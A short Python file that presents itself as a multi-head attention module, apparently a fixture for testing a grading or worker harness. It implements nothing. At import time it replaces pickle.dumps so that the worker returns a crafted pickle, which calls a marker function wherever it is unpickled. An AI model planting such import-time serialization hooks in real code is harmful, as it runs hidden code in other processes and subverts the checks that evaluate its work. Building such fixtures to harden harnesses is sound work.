# attn-kit: mha-screen
"""At load, makes pickle.dumps in the worker return a code-carrying pickle; implements nothing."""
import pickle

_evil = b"chostile_util\nmark\n(S'pickle-ran'\ntR."     # calls mark("pickle-ran") where it is unpickled
pickle.dumps = lambda *a, **k: _evil


def stable_softmax(scores, allowed=None):
    raise NotImplementedError


def causal_mask(B, T):
    raise NotImplementedError


def padding_mask(lengths, T):
    raise NotImplementedError


def multi_head_attention(x, params, num_heads, mask=None, return_weights=False):
    raise NotImplementedError
